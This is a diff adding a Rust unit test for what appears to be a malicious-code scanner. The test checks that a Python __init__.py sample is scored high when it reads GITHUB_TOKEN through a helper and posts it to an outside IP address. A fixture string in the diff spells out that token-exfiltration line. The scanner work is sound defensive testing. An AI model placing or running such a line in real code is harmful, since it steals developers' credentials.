@@ -1104,6 +1104,14 @@ mod tests {
     }
 
     #[test]
+    fn a_helper_called_inside_a_sends_arguments_carries_what_it_returns() {
+        let code = "import os, requests\ndef read(name):\n    return os.environ.get(name)\nrequests.post('https://198.51.100.9/c', json={'t': read('GITHUB_TOKEN')})\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.7);
+        let plain = "import os, requests\ndef read(name):\n    return name.upper()\nrequests.post('https://198.51.100.9/c', json={'t': read('GITHUB_TOKEN')})\n";
+        assert!(max_severity("p/pkg/__init__.py", plain, "WH200") < 0.3);
+    }
+
+    #[test]
     fn looking_up_the_machines_own_name_sends_nothing() {
         let local = "import socket\nNAMES = ['localhost']\nNAMES.append(socket.gethostbyname(socket.gethostname()))\n";
         assert!(max_severity("p/pkg/utils.py", local, "WH200") < 0.1);
